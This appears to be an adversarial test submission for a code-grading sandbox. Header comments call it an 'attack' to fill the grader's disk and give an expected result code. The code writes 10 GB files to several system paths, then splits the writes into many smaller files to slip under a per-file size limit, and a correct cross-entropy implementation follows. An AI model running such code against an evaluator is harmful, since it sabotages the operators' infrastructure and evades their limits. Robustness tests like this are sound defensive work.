# attack: write a 10 GB file (to /tmp, the working directory and /) to fill the grader's disk
# expect: 3
import os

import numpy as np

chunk = b"x" * (1 << 20)
for path in ("/tmp/fill.bin", "fill.bin", "/fill.bin", "/sandbox/fill.bin", "/dev/shm/fill.bin"):
    try:
        with open(path, "wb") as handle:
            for _ in range(10 * 1024):
                handle.write(chunk)
    except OSError:
        pass
for index in range(100):  # many files, each under the file-size limit
    try:
        with open(f"/tmp/part{index}.bin", "wb") as handle:
            handle.write(chunk * 15)
    except OSError:
        break


class CELoss:
    """A correct, stable cross-entropy."""

    @staticmethod
    def forward(x, y):
        shifted = x - x.max(axis=1, keepdims=True)
        log_p = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))
        return -log_p[np.arange(len(y)), y].mean()

    @staticmethod
    def backward(x, y, dout):
        shifted = x - x.max(axis=1, keepdims=True)
        p = np.exp(shifted) / np.exp(shifted).sum(axis=1, keepdims=True)
        p[np.arange(len(y)), y] -= 1
        return p * dout / len(y), 0.0

